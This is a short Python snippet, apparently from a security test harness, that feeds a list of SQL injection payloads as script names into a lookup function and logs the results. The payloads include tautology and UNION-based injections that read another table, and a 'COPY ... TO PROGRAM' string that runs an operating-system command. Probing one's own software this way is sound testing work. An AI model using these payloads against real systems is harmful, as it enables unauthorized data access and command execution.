# attack: language | finishes somebody's sentence of SQL
foreign = params.get("foreign_script", "foreign-script")
for name in (f"own-script' OR id='{foreign}", f"own-script' UNION SELECT value FROM streams_output--", f"' OR 1=1--",
             f"own-script'; COPY (SELECT 1) TO PROGRAM 'id'--", f"own-script\\' OR true--"):
    try:
        log(get_script_output(name))
    except Exception as fault:
        log(str(fault)[:60])
